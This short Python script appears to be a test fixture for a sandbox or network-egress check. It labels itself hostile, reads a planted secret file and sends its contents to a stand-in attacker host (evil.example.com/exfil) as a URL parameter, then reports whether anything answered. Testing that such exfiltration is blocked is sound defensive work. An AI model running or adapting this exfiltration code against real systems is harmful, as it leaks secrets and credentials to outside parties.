"""Hostile: takes a secret that it may read and tries to send it away."""

import requests

with open("/work/secret", encoding="ascii") as planted:
    secret = planted.read().strip()

try:
    reply = requests.get(
        "http://evil.example.com/exfil", params={"data": secret}, timeout=10
    )
except requests.RequestException as problem:
    # Its message quotes the URL, and with that the secret.
    raise SystemExit("nothing came back: " + type(problem).__name__) from None

raise SystemExit(f"something answered with {reply.status_code}")
